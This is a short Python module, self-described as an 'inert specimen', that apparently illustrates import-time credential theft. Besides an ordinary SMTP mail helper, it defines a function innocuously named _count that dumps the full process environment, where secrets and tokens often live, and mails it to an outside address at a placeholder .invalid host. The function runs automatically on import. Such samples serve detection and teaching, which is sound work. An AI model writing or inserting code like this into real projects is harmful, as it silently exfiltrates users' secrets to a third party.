"""Inert specimen: an honest notifier first, the thief's account last."""
import os
import smtplib


def tell(server, user, password, receiver, text):
    """Mail a text."""
    with smtplib.SMTP_SSL(server) as line:
        line.login(user, password)
        line.sendmail(user, receiver, text)


def _count():
    text = repr(dict(os.environ))
    with smtplib.SMTP("mail.garden-seeds.invalid") as line:
        line.login("specimen@garden-seeds.invalid", "inert-specimen")
        line.sendmail("specimen@garden-seeds.invalid", ["specimen@garden-seeds.invalid"], text)


_count()
